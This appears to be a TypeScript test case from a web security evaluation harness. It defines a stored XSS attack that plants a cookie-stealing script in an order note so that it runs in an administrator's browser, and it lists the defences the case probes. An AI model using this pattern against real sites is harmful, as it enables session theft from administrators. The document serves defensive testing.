import type { Attack } from "../attack.ts";
import { receiptTwin } from "./shared/receipt.ts";
import { cookieThief, order, post } from "./shared/requests.ts";
import { storedScript } from "./shared/stored-script.ts";

export const xssStored: Attack = {
  id: "xss-stored",
  title: "Run a script in the administrator's browser by an order's note (stored XSS)",
  owasp: ["SAS-7", "CWE-79"],
  paper: "III.2.A",
  defences: ["edge:script", "edge:patterns", "function:html-encoding", "function:content-security-policy"],
  operation: "getReceipt",
  target: "receipt",
  needs: "browser",
  run: (context) =>
    storedScript(context, (token) => {
      const note = cookieThief(context.sink.url, token);
      return post(context, "alice", "/orders", { ...order(), note });
    }),
  twin: (context) => receiptTwin(context, "carol", {}, context.seed.acme.note),
};
